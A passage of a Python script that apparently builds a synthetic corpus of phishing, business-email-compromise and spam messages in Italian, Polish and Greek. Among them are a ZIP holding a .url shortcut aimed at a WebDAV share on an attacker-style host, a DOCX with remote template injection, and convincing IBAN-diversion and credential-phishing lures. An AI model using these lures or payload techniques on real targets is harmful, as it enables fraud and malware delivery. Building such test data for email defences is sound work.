<tr><td style="padding:14px 24px;background:#333;color:#bbb;font-size:11px">Aruba S.p.A. - Via San Clemente, 53 - 24036 Ponte San Pietro (BG) - P.IVA 01573850516<br>Questa è una comunicazione di servizio, non rispondere a questa email.</td></tr>
</table></td></tr></table></body></html>
""" % url
    root = html(body, "windows-1252", "quoted-printable")
    hop = ("mail.aruba-rinnovi-pec.it", "228.ip-164-132-201.eu", "164.132.201.228", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "aruba-rinnovi-pec.it", "s1"), dmarc=("pass", "aruba-rinnovi-pec.it", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("aruba-rinnovi-pec.it", "s1", "from:to:subject:date:message-id"),
                frm=frm, to=[S["romano"]], subject="La tua casella PEC scade il 04/12/2026 - rinnova ora per evitare la sospensione",
                subj_cs="windows-1252", root=root, mid=msgid_generic(key, "aruba-rinnovi-pec.it"))


@A("29", "it", "agenzia-entrate-zip-url", "iso-8859-1",
   "Fake Agenzia delle Entrate 'avviso bonario' with a ZIP containing an Internet-shortcut (.url) placeholder pointing to a WebDAV share, a common Italian malware chain opener.")
def a29(key):
    sent = t(3, "09:31:02", 60)
    rcpt = S["ricci"][1]
    frm = ("Agenzia delle Entrate", "comunicazioni@agenziaentrate-avvisi.it")
    num = "2026/0884132"
    body = """Agenzia delle Entrate - Direzione Provinciale di Verona

Oggetto: Comunicazione ai sensi dell'art. 54-bis del D.P.R. n. 633/1972 - Avviso bonario n. %s

Gentile Contribuente,

a seguito del controllo automatizzato della dichiarazione IVA relativa al periodo d'imposta 2025 sono emerse irregolarità nei versamenti. L'importo complessivo dovuto, comprensivo di sanzioni e interessi, è riportato nella comunicazione allegata.

Può regolarizzare la posizione entro 60 giorni dal ricevimento della presente beneficiando della riduzione delle sanzioni a un terzo. In caso di mancato pagamento, le somme saranno iscritte a ruolo.

La comunicazione completa è disponibile nell'archivio compresso allegato.

Distinti saluti

Il Direttore Provinciale
(firma autografa sostituita a mezzo stampa ai sensi dell'art. 3, comma 2, D.Lgs. 39/1993)

Questo messaggio è stato generato automaticamente. Si prega di non rispondere.
""" % num
    urlf = ("[InternetShortcut]\r\nURL=file://avvisi-ade-docs.trycloudflare.com@SSL/DavWWWRoot/Avviso_Bonario_2026_0884132.pdf\r\n"
            "IconIndex=13\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n; " ).encode("ascii") + placeholder("Internet shortcut .url", "Avviso_Bonario_2026_0884132.pdf.url")
    z = mkzip([("Avviso_Bonario_2026_0884132.pdf.url", urlf, (2026, 12, 3, 8, 55, 12))])
    root = multi("mixed", [text(body, "plain", "iso-8859-1", "base64"),
                           att(z, "application/x-zip-compressed", "Avviso_Bonario_2026_0884132.zip")], bnd("ms", key))
    hop = ("webmail.dentalstudio-ferraro.it", "host41-73-static.92-81-b.business.telecomitalia.it", "81.92.73.41", "1.2")
    rp = "info@dentalstudio-ferraro.it"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("none", "", ""), dmarc=("none", "agenziaentrate-avvisi.it", "none"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                frm=frm, to=[S["ricci"]], subject="Avviso bonario n. %s - Comunicazione esiti controllo automatizzato" % num,
                subj_cs="iso-8859-1", root=root, mid=msgid_generic(key, "dentalstudio-ferraro.it", "alnum"),
                extra=[("X-Mailer", "Roundcube Webmail/1.6.9")])


@A("30", "it", "payroll-diversion-gmail", "utf-8",
   "Payroll diversion: 'Marco Bianchi' from a private Gmail address asks the payroll clerk to change his salary account to a new online-bank IBAN before the December run.")
def a30(key):
    sent = t(2, "21:14:55", 60)
    rcpt = S["ricci"][1]
    frm = ("Marco Bianchi", "marco.bianchi.vr86@gmail.com")
    new_iban = iban_it("36772", "01600", "000000527390")
    body = """Ciao Francesca,

scusa se ti scrivo dalla mail personale ma da casa non riesco ad accedere a quella aziendale.

Ho chiuso il conto su cui mi arriva lo stipendio e ho aperto un conto nuovo online. Riusciresti ad aggiornare l'IBAN già per la busta paga di dicembre e la tredicesima?

Nuovo IBAN: %s
Intestatario: Marco Bianchi

Se ti serve un modulo firmato o altro fammi sapere e te lo mando da qui. Domani e giovedì sono in giro per i ritiri a Verona sud quindi non sono quasi mai in ufficio.

Grazie mille!
Marco

Inviato da iPhone
""" % iban_fmt(new_iban)
    p = p_gmail(key, sent, rcpt, frm[1])
    root = text(body, "plain", "utf-8", "quoted-printable")
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "gmail.com", "20230601"), dmarc=("pass", "gmail.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"], dkim=p["dkim"],
                frm=frm, to=[S["ricci"]], subject="Cambio IBAN stipendio", root=root, mid=msgid_gmail(key),
                extra=p["extra"] + [("X-Mailer", "iPhone Mail (22B91)")])


@A("31", "it", "brevo-unsolicited-leasing", "iso-8859-1",
   "Unsolicited B2B marketing blast for long-term van leasing sent through Brevo with tracking redirects and a List-Unsubscribe header, to an address harvested from a trade directory.")
def a31(key):
    sent = t(1, "10:00:03", 60)
    rcpt = S["romano"][1]
    frm = ("FlottaPro Noleggio", "offerte@flottapro-noleggio.it")

    def trk(i):
        return "https://flottapro-noleggio.r.bh.d.sendibt3.com/tr/cl/%s" % b64blob(60, "cl", key, i).replace("+", "-").replace("/", "_").rstrip("=")
    plain = """NOLEGGIO A LUNGO TERMINE PER AZIENDE - OFFERTE DI DICEMBRE

Gentile Responsabile Flotta,

solo fino al 20 dicembre, canoni bloccati per 48 mesi sui veicoli commerciali più richiesti:

- Fiat Doblò Cargo 1.5 BlueHDi 100 CV - da 289 EUR/mese + IVA
- Ford Transit Custom 2.0 EcoBlue 136 CV - da 419 EUR/mese + IVA
- Renault Master L3H2 2.3 dCi 150 CV - da 489 EUR/mese + IVA

Incluso: RCA, Kasko, manutenzione ordinaria e straordinaria, soccorso stradale 24h, pneumatici.
Anticipo zero e consegna in 30 giorni.

Richiedi il preventivo personalizzato: %s

Il team FlottaPro
FlottaPro Noleggio S.r.l. - Via Ravenna 14, 20139 Milano

Ricevi questa email perché la tua azienda è presente in elenchi pubblici di imprese del settore logistico. Per non ricevere più comunicazioni: %s
""" % (trk(1), trk(9))
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body style="margin:0;background:#eef1f5">
<center><table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="background:#0a2a5e;color:#fff;padding:18px;font-size:20px"><b>FlottaPro</b> Noleggio</td></tr>
<tr><td><a href="%s"><img src="https://img-cache.sendibt3.com/flottapro/dic26-banner.jpg" width="600" alt="Offerte di dicembre: canoni bloccati 48 mesi"></a></td></tr>
<tr><td style="padding:20px;font-size:14px;color:#222"><p>Gentile Responsabile Flotta,</p><p>solo fino al <b>20 dicembre</b>, canoni bloccati per 48 mesi sui veicoli commerciali più richiesti:</p>
<ul><li>Fiat Doblò Cargo 1.5 BlueHDi 100 CV &ndash; <b>da 289 &euro;/mese</b> + IVA</li><li>Ford Transit Custom 2.0 EcoBlue 136 CV &ndash; <b>da 419 &euro;/mese</b> + IVA</li><li>Renault Master L3H2 2.3 dCi 150 CV &ndash; <b>da 489 &euro;/mese</b> + IVA</li></ul>
<p>Incluso: RCA, Kasko, manutenzione, soccorso stradale 24h, pneumatici. Anticipo zero, consegna in 30 giorni.</p>
<p style="text-align:center"><a href="%s" style="background:#f39200;color:#fff;padding:12px 26px;text-decoration:none;font-weight:bold">Richiedi il preventivo</a></p></td></tr>
<tr><td style="padding:14px 20px;font-size:10px;color:#888">FlottaPro Noleggio S.r.l. - Via Ravenna 14, 20139 Milano - P.IVA 11482730961<br>Ricevi questa email perché la tua azienda è presente in elenchi pubblici di imprese del settore logistico. <a href="%s">Disiscriviti</a></td></tr>
</table></center><img width="1" height="1" src="https://flottapro-noleggio.r.bh.d.sendibt3.com/tr/op/%s" alt=""></body></html>""" % (trk(2), trk(3), trk(9), b64blob(40, "op", key).replace("+", "-").replace("/", "_").rstrip("="))
    root = multi("alternative", [text(plain, "plain", "iso-8859-1", "quoted-printable"), html(htm, "iso-8859-1", "quoted-printable")], bnd("php", key))
    hop = ("mail-a45-211.sendinblue.com", "mail-a45-211.sendinblue.com", "185.41.28.211", "1.3")
    rp = "bnc3-%s@bh.d.sender-sib.com" % hexid(24, "rp", key)
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "flottapro-noleggio.it", "brevo1"), dmarc=("pass", "flottapro-noleggio.it", "none"),
                  extra=["dkim=pass (1024-bit key) header.d=sendibt3.com header.i=@sendibt3.com header.a=rsa-sha256 header.s=mail header.b=%s" % alnum(8, "sib", key)])
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("flottapro-noleggio.it", "brevo1", "From:To:Subject:Date:Message-Id:List-Unsubscribe:List-Unsubscribe-Post"),
                frm=frm, to=[S["romano"]], subject="Noleggio a lungo termine: Fiat Doblò da 289 EUR/mese - offerta riservata alle aziende",
                subj_cs="iso-8859-1", subj_enc="Q", root=root, mid="<%s@smtp-relay.mailin.fr>" % hexid(36, "m", key),
                extra=[("List-Unsubscribe", "<%s>, <mailto:unsubscribe-%s@sendibt3.com>" % ("https://flottapro-noleggio.r.bh.d.sendibt3.com/tr/un/" + hexid(40, "un", key), hexid(12, "u2", key))),
                       ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk"),
                       ("X-Mailin-Campaign", "128"), ("X-Mailin-Client", "4781923"), ("Feedback-ID", "4781923:128:Brevo")])

@A("32", "pl", "inpost-surcharge-phish", "iso-8859-2",
   "InPost parcel 'surcharge of 2.49 PLN' card-phishing notice from a look-alike domain, link hidden behind a deceptive inpost.pl-prefixed subdomain.")
def a32(key):
    sent = t(1, "14:48:20", 60)
    rcpt = S["wisniewski"][1]
    frm = ("InPost", "powiadomienia@inpost-paczkomat.info")
    nr = "6820 5937 1148 0034 4012 43"
    url = "https://inpost.pl-doplata.paczka-24.online/p/%s" % hexid(16, "p", key)
    body = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head>
<body style="margin:0;background:#f5f5f5;font-family:Arial,sans-serif">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="580" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#ffcd00;padding:16px 24px;font-size:22px;font-weight:bold;color:#1d1d1b">InPost</td></tr>
<tr><td style="padding:24px;font-size:14px;color:#1d1d1b;line-height:21px">
<p><b>Twoja przesyłka czeka na dopłatę</b></p>
<p>Przesyłka nr <b>%(nr)s</b> nie może zostać nadana do Paczkomatu, ponieważ nadawca nie uiścił pełnej opłaty za gabaryt C.</p>
<table cellpadding="6" style="font-size:13px;background:#fafafa;width:100%%">
<tr><td>Kwota dopłaty:</td><td><b>2,49 zł</b></td></tr>
<tr><td>Termin:</td><td>do 02.12.2026, godz. 23:59</td></tr></table>
<p>Po upływie terminu przesyłka zostanie zwrócona do nadawcy.</p>
<p style="text-align:center;margin:24px 0"><a href="%(url)s" style="background:#1d1d1b;color:#ffcd00;padding:12px 28px;text-decoration:none;font-weight:bold">Dopłać i odbierz</a></p>
<p style="font-size:11px;color:#888">InPost S.A., ul. Pana Tadeusza 4, 30-727 Kraków. Wiadomość wygenerowana automatycznie, prosimy na nią nie odpowiadać.</p>
</td></tr></table></td></tr></table></body></html>
""" % dict(nr=nr, url=url)
    root = html(body, "iso-8859-2", "quoted-printable")
    hop = ("mail.inpost-paczkomat.info", "static.217.94.203.116.clients.your-server.de", "116.203.94.217", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "inpost-paczkomat.info", "default"), dmarc=("pass", "inpost-paczkomat.info", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("inpost-paczkomat.info", "default", "from:to:subject:date:message-id"),
                frm=frm, to=[S["wisniewski"]], subject="Twoja przesyłka %s oczekuje na dopłatę 2,49 zł" % nr.replace(" ", ""),
                subj_cs="iso-8859-2", subj_enc="Q", root=root, mid=msgid_generic(key, "inpost-paczkomat.info"))


@A("33", "pl", "lookalike-partner-account-change-xlsx", "windows-1250",
   "Look-alike of the Polish logistics partner (partner-logistic.pl vs partner-logistik.pl) announcing a new bank account with an XLSX statement of 'overdue' invoices and a valid PL IBAN.")
def a33(key):
    sent = t(2, "12:40:18", 60)
    rcpt = S["nowak"][1]
    frm = ("Tomasz Zieliński", "t.zielinski@partner-logistic.pl")
    new_iban = iban_pl("1140200", "4000380211477301")
    body = """Szanowna Pani Katarzyno,

w związku z konsolidacją rachunków w naszej grupie uprzejmie informuję, że od 01.12.2026 r. zmienił się nasz rachunek bankowy do rozliczeń w PLN i EUR. Nowy rachunek jest już zgłoszony do wykazu podatników VAT (biała lista), aktualizacja w wyszukiwarce MF może potrwać kilka dni.

Nowy numer rachunku: %s (mBank S.A.)

W załączeniu przesyłam zestawienie nierozliczonych faktur. Uprzejmie proszę o pilne uregulowanie FV/2026/11/0318 na nowy rachunek, ponieważ stary rachunek zostanie zamknięty w przyszłym tygodniu.

W razie pytań proszę o kontakt mailowy, jestem w tym tygodniu w trasie i mam ograniczony dostęp do telefonu.

Z poważaniem
Tomasz Zieliński
Kierownik ds. Kluczowych Klientów

Partner Logistik Sp. z o.o.
ul. Głogowska 218, 60-104 Poznań
tel. +48 61 842 17 30
""" % iban_fmt(new_iban)
    rows = [["Nr faktury", "Data wystawienia", "Termin płatności", "Kwota brutto", "Waluta", "Status"],
            ["FV/2026/10/0291", "2026-10-27", "2026-11-26", 18452.4, "PLN", "po terminie"],
            ["FV/2026/11/0318", "2026-11-05", "2026-11-30", 4360.0, "EUR", "po terminie"],
            ["FV/2026/11/0342", "2026-11-20", "2026-12-20", 9871.35, "PLN", "otwarta"],
            [],
            ["Nowy rachunek bankowy od 01.12.2026:"],
            [iban_fmt(new_iban)],
            ["Prosimy nie dokonywać wpłat na dotychczasowy rachunek."]]
    x = xlsx(rows, "Zestawienie", "Tomasz Zieliński", sent, widths=[20, 18, 18, 16, 10, 14])
    root = multi("mixed", [text(body, "plain", "windows-1250", "base64"),
                           att(x, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "Zestawienie_nalezności_12_2026.xlsx", style="2047", name_cs="windows-1250")],
                 bnd("outlook", key))
    hop = ("mail.partner-logistic.pl", "host-94-152-9-77.h2.dhosting.pl", "94.152.9.77", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "partner-logistic.pl", "x"), dmarc=("pass", "partner-logistic.pl", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("partner-logistic.pl", "x", "from:to:subject:date:message-id"),
                frm=frm, to=[S["nowak"]], subject="Zmiana numeru rachunku bankowego - pilne",
                subj_cs="windows-1250", root=root, mid=msgid_generic(key, "partner-logistic.pl"),
                extra=[("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "pl")])


@A("34", "pl", "ksef-invoice-phish", "utf-8",
   "Fake KSeF (national e-invoicing system) notice that a structured invoice awaits verification, linking to a gov.pl-prefixed subdomain of an attacker domain.")
def a34(key):
    sent = t(3, "08:22:47", 60)
    rcpt = S["nowak"][1]
    frm = ("Krajowy System e-Faktur", "powiadomienia@ksef-powiadomienia.pl")
    ksef = "5272845309-20261202-%s-%s" % (hexid(12, "k1", key).upper(), hexid(2, "k2", key).upper())
    url = "https://ksef.podatki.gov.pl.weryfikacja-faktury.com/web/login?ref=%s" % hexid(20, "r", key)
    plain = """Ministerstwo Finansów - Krajowy System e-Faktur (KSeF)

Szanowni Państwo,

w Krajowym Systemie e-Faktur została zarejestrowana faktura ustrukturyzowana, w której Państwa podmiot występuje jako nabywca. Ze względu na niezgodność danych nabywcy (NIP / adres) faktura oczekuje na weryfikację.

Numer KSeF: %s
Wystawca: NIP 5272845309
Kwota brutto: 23 617,44 PLN
Data wystawienia: 02.12.2026

Aby uniknąć odrzucenia faktury i konsekwencji wynikających z art. 106nf ustawy o VAT, prosimy o zalogowanie się do Aplikacji Podatnika KSeF i potwierdzenie danych w ciągu 48 godzin:

%s

Wiadomość wygenerowana automatycznie. Prosimy nie odpowiadać.
Ministerstwo Finansów, ul. Świętokrzyska 12, 00-916 Warszawa
""" % (ksef, url)
    htm = """<html><head><meta charset="utf-8"></head><body style="font-family:Lato,Arial,sans-serif;font-size:14px;color:#1b1b1b">
<table width="620" cellpadding="0" cellspacing="0"><tr><td style="border-bottom:3px solid #dc143c;padding:12px 0"><b>podatki.gov.pl</b> &middot; Krajowy System e-Faktur</td></tr>
<tr><td style="padding:16px 0"><p>Szanowni Państwo,</p>
<p>w Krajowym Systemie e-Faktur została zarejestrowana faktura ustrukturyzowana, w której Państwa podmiot występuje jako nabywca. Ze względu na <b>niezgodność danych nabywcy</b> faktura oczekuje na weryfikację.</p>
<table cellpadding="5" style="background:#f4f4f4;font-size:13px;width:100%%"><tr><td>Numer KSeF</td><td><b>%s</b></td></tr><tr><td>Wystawca</td><td>NIP 5272845309</td></tr><tr><td>Kwota brutto</td><td>23 617,44 PLN</td></tr><tr><td>Data wystawienia</td><td>02.12.2026</td></tr></table>
<p>Prosimy o zalogowanie się do Aplikacji Podatnika KSeF i potwierdzenie danych w ciągu <b>48 godzin</b>.</p>
<p><a href="%s" style="background:#0052a5;color:#fff;padding:10px 22px;text-decoration:none">Przejdź do Aplikacji Podatnika</a></p>
<p style="font-size:11px;color:#666">Wiadomość wygenerowana automatycznie. Ministerstwo Finansów, ul. Świętokrzyska 12, 00-916 Warszawa</p></td></tr></table></body></html>""" % (ksef, url)
    root = multi("alternative", [text(plain, "plain", "utf-8", "base64"), html(htm, "utf-8", "base64")], bnd("javamail", key))
    hop = ("smtp.ksef-powiadomienia.pl", "vps-4471.mikr.us", "51.83.141.63", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "ksef-powiadomienia.pl", "mail"), dmarc=("pass", "ksef-powiadomienia.pl", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("ksef-powiadomienia.pl", "mail", "from:to:subject:date:message-id"),
                frm=frm, to=[S["nowak"]], subject="KSeF: faktura ustrukturyzowana oczekuje na weryfikację nabywcy",
                root=root, mid=msgid_generic(key, "ksef-powiadomienia.pl", "uuid"))


@A("35", "pl", "rfq-docx-remote-template", "iso-8859-2",
   "Request-for-quotation lure from a newly registered company domain with a DOCX whose settings reference an external .dotm template (remote template injection); the mail asks to 'enable editing'.")
def a35(key):
    sent = t(30, "09:18:40", 60)
    rcpt = S["wisniewski"][1]
    frm = ("Dział Zakupów - MeblPol Export", "zakupy@meblpol-export.pl")
    tmpl = "https://meblpol-export.pl.office-templates.net/ZO/ZO_2026_12.dotm"
    body = """Dzień dobry,

w imieniu firmy MeblPol Export Sp. z o.o. zwracamy się z zapytaniem ofertowym na realizację transportów międzynarodowych (FTL, 13,6 m, plandeka) na trasach Wrocław - Werona oraz Wrocław - Walencja w okresie styczeń-czerwiec 2027, ok. 6-8 aut miesięcznie.

Szczegółowa specyfikacja (ilości, terminy, wymagania dot. ubezpieczenia OCP) znajduje się w załączonym formularzu. Po otwarciu dokumentu prosimy kliknąć "Włącz edytowanie", aby wyświetlić pełną treść formularza i tabelę cenową do uzupełnienia.

Oferty prosimy przesyłać do 07.12.2026.

Z poważaniem
Monika Sadowska
Specjalista ds. Zakupów
MeblPol Export Sp. z o.o.
ul. Przemysłowa 9, 63-400 Ostrów Wielkopolski
"""
    d = docx(["**ZAPYTANIE OFERTOWE nr ZO/2026/12/031",
              "Przedmiot: transport międzynarodowy FTL 2027",
              "Treść formularza jest chroniona. Aby wyświetlić pełną treść i tabelę cenową, kliknij \"Włącz edytowanie\" oraz \"Włącz zawartość\".",
              "MeblPol Export Sp. z o.o."], "Zapytanie ofertowe ZO/2026/12/031", "Monika Sadowska", sent,
             company="MeblPol Export", remote_template=tmpl, lang="pl-PL")
    root = multi("mixed", [text(body, "plain", "iso-8859-2", "quoted-printable"),
                           att(d, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Zapytanie_ofertowe_ZO-2026-12-031.docx")],
                 bnd("tb", key))
    hop = ("mail.meblpol-export.pl", "vm-3121.cloud.nazwa.pl", "46.242.146.88", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "meblpol-export.pl", "default"), dmarc=("pass", "meblpol-export.pl", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("meblpol-export.pl", "default", "from:to:subject:date:message-id"),
                frm=frm, to=[S["wisniewski"]], subject="Zapytanie ofertowe nr ZO/2026/12/031 - transport międzynarodowy FTL 2027",
                subj_cs="iso-8859-2", subj_enc="Q", root=root, mid=msgid_generic(key, "meblpol-export.pl", "uuid"),
                extra=[("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "pl")])


@A("36", "pl", "internal-compromised-hr-link", "windows-1250",
   "Internal phishing from a genuinely compromised HR mailbox, relayed by mail-int01 at 05:47 on a Saturday: 'annual bonus rules' with a link to a pages.dev page asking for a Microsoft 365 login.")
def a36(key):
    sent = t(5, "05:47:12", 60)
    frm = S["kowalczyk"]
    to = who("nowak", "wisniewski")
    rcpt = to[0][1]
    link = "https://examplegroup-intranet.pages.dev/hr/premie-2026/regulamin?src=mail"
    plain = """Dzień dobry,

przesyłam link do nowego Regulaminu premii rocznej za 2026 r., zatwierdzonego przez Zarząd Grupy w dniu 30.11.2026.

Regulamin premii rocznej 2026 (PDF)
%s

Prosimy o zapoznanie się z dokumentem i potwierdzenie przyjęcia do wiadomości (logowanie kontem służbowym Microsoft 365) najpóźniej do poniedziałku 07.12.2026. Brak potwierdzenia w terminie może opóźnić naliczenie premii w wypłacie za grudzień.

Pozdrawiam
Agnieszka Kowalczyk
Specjalista ds. Kadr i Płac
Example Group | Oddział Wrocław
ul. Legnicka 55, 54-203 Wrocław
tel. +48 71 358 20 14
""" % link
    htm = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=windows-1250\"></head><body><div style=\"font-family:Calibri,sans-serif;font-size:11pt\">" +
           _x(plain).replace("Regulamin premii rocznej 2026 (PDF)\n" + link, '<a href="%s"><b>Regulamin premii rocznej 2026 (PDF)</b></a>' % link).replace("\n", "<br>\n") + "</div></body></html>")
    p = p_internal(key, sent, "pl-PL", False, "Regulamin premii rocznej 2026 - prośba o zapoznanie się do 07.12")
    root = multi("alternative", [text(plain, "plain", "windows-1250", "quoted-printable"), html(htm, "windows-1250", "quoted-printable")], bnd("outlook", key))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar_internal(frm[1]), chain=p["chain"],
                frm=frm, to=to, subject="Regulamin premii rocznej 2026 - prośba o zapoznanie się do 07.12",
                subj_cs="windows-1250", subj_enc="Q", root=root, mid=p["mid"], extra=p["extra"])


@A("37", "el", "elta-courier-phish", "iso-8859-7",
   "ELTA Courier 'address confirmation and 1.85 EUR redelivery fee' smishing-style email from a look-alike domain with a deceptive subdomain link.")
def a37(key):
    sent = t(2, "13:05:37", 120)
    rcpt = S["papadopoulos"][1]
    frm = ("ΕΛΤΑ Courier", "info@elta-courier-gr.com")
    url = "https://elta-courier.gr.track-delivery.live/gr/%s" % hexid(14, "u", key)
    body = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-7"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<table width="580" cellpadding="0" cellspacing="0" style="border:1px solid #ddd">
<tr><td style="background:#004a99;color:#ffd200;padding:14px 20px;font-size:20px;font-weight:bold">ΕΛΤΑ Courier</td></tr>
<tr><td style="padding:20px">
<p>Αγαπητέ πελάτη,</p>
<p>Η αποστολή σας με αριθμό <b>ΕΛ 7741 0928 3GR</b> δεν μπόρεσε να παραδοθεί σήμερα λόγω ελλιπούς διεύθυνσης παραλήπτη.</p>
<p>Για να προγραμματιστεί νέα παράδοση, παρακαλούμε επιβεβαιώστε τη διεύθυνσή σας και καταβάλετε το τέλος επαναποστολής ύψους <b>1,85 €</b> έως τις <b>03/12/2026</b>.</p>
<p style="text-align:center;margin:22px 0"><a href="%s" style="background:#ffd200;color:#004a99;padding:11px 24px;text-decoration:none;font-weight:bold">Επιβεβαίωση διεύθυνσης</a></p>
<p>Σε διαφορετική περίπτωση το δέμα θα επιστραφεί στον αποστολέα.</p>
<p style="font-size:11px;color:#888">ΕΛΤΑ Courier Α.Ε. · Αυτό το μήνυμα δημιουργήθηκε αυτόματα, παρακαλούμε μην απαντάτε.</p>
</td></tr></table></body></html>
""" % url
    root = html(body, "iso-8859-7", "quoted-printable")
    hop = ("mail.elta-courier-gr.com", None, "194.180.48.133", "1.2")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "elta-courier-gr.com", "s1"), dmarc=("pass", "elta-courier-gr.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("elta-courier-gr.com", "s1", "from:to:subject:date:message-id"),
                frm=frm, to=[S["papadopoulos"]], subject="Ειδοποίηση: η αποστολή σας δεν παραδόθηκε - απαιτείται επιβεβαίωση",
                subj_cs="iso-8859-7", subj_enc="B", root=root, mid=msgid_generic(key, "elta-courier-gr.com"))


@A("38", "el", "aade-refund-pdf-qr", "windows-1253",
   "Fake AADE (Greek tax authority) tax-refund notice whose only call to action is a QR code drawn inside the attached PDF, pointing to a look-alike gov-gr domain.")
def a38(key):
    sent = t(3, "10:44:09", 120)
    rcpt = S["georgiou"][1]
    frm = ("ΑΑΔΕ - myAADE", "noreply@myaade-gov.com")
    qrurl = "https://myaade-epistrofi.gov-gr.help/t/%s" % hexid(12, "q", key)
    body = """Αξιότιμε/η φορολογούμενε/η,

Σας ενημερώνουμε ότι από την εκκαθάριση της δήλωσης φορολογίας εισοδήματος φορολογικού έτους 2025 προκύπτει ποσό επιστροφής φόρου ύψους 1.284,60 €.

Για την ολοκλήρωση της επιστροφής απαιτείται επιβεβαίωση του IBAN και ταυτοποίηση μέσω κινητού τηλεφώνου. Για λόγους ασφαλείας η διαδικασία είναι διαθέσιμη μόνο από κινητή συσκευή: σαρώστε τον κωδικό QR που περιλαμβάνεται στο συνημμένο έγγραφο.

Η επιβεβαίωση πρέπει να γίνει έως 07/12/2026, διαφορετικά το ποσό θα συμψηφιστεί με μελλοντικές οφειλές.

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Γενική Διεύθυνση Φορολογικής Διοίκησης

Το μήνυμα αυτό έχει αποσταλεί αυτόματα. Παρακαλούμε μην απαντήσετε.
"""
    pdf = PDF("AADE Eidopoiisi 2026", "AADE", "iText 7.2.5", sent, creator="iText")
    pdf.line("ΑΝΕΞΑΡΤΗΤΗ ΑΡΧΗ ΔΗΜΟΣΙΩΝ ΕΣΟΔΩΝ", 15, True)
    pdf.line("ΓΕΝΙΚΗ ΔΙΕΥΘΥΝΣΗ ΦΟΡΟΛΟΓΙΚΗΣ ΔΙΟΙΚΗΣΗΣ - myAADE", 10)
    pdf.rule()
    pdf.y -= 14
    pdf.line("ΕΙΔΟΠΟΙΗΣΗ ΕΠΙΣΤΡΟΦΗΣ ΦΟΡΟΥ", 13, True)
    pdf.line("Αρ. πρωτ.: %s/03-12-2026" % str(int(hexid(6, "ap", key), 16) % 900000 + 100000), 10)
    pdf.y -= 8
    pdf.lines("ΦΟΡΟΛΟΓΙΚΟ ΕΤΟΣ: 2025\nΠΟΣΟ ΕΠΙΣΤΡΟΦΗΣ: 1.284,60 EUR\nΠΡΟΘΕΣΜΙΑ ΕΠΙΒΕΒΑΙΩΣΗΣ: 07-12-2026", 11)
    pdf.y -= 10
    pdf.lines("Για την ολοκληρωση της επιστροφης σαρωστε τον κωδικο QR\nμε την καμερα του κινητου σας και συνδεθειτε με τους\nκωδικους TAXISnet.\n\nScan the QR code with your mobile phone to confirm your IBAN.", 10)
    pdf.qr(qrurl, 220, pdf.y - 170, 3.2)
    pdf.y -= 200
    pdf.lines("ΑΑΔΕ - Καρ. Σερβίας 10, 101 84 Αθήνα - www.aade.gr", 8)
    root = multi("mixed", [text(body, "plain", "windows-1253", "base64"),
                           att(pdf.render(), "application/pdf", "AADE_Eidopoiisi_Epistrofis_2026.pdf")], bnd("ms", key))
    hop = ("mx.myaade-gov.com", "vps91244.serveur-vps.net", "45.90.58.171", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "myaade-gov.com", "dkim"), dmarc=("pass", "myaade-gov.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("myaade-gov.com", "dkim", "from:to:subject:date:message-id"),
                frm=frm, to=[S["georgiou"]], subject="Ειδοποίηση επιστροφής φόρου 2025 - απαιτείται ταυτοποίηση",
                subj_cs="windows-1253", subj_enc="B", root=root, mid=msgid_generic(key, "myaade-gov.com"))


@A("39", "el", "manager-impersonation-cy-iban", "utf-8",
   "Manager impersonation: 'Νίκος Παπαδόπουλος' from an Outlook.com address asks the accountant to pay a 'new Cypriot partner' today to a valid CY IBAN, citing a client meeting.")
def a39(key):
    sent = t(4, "09:06:51", 120)
    rcpt = S["georgiou"][1]
    frm = ("Νίκος Παπαδόπουλος", "nikos.papadopoulos.exg@outlook.com")
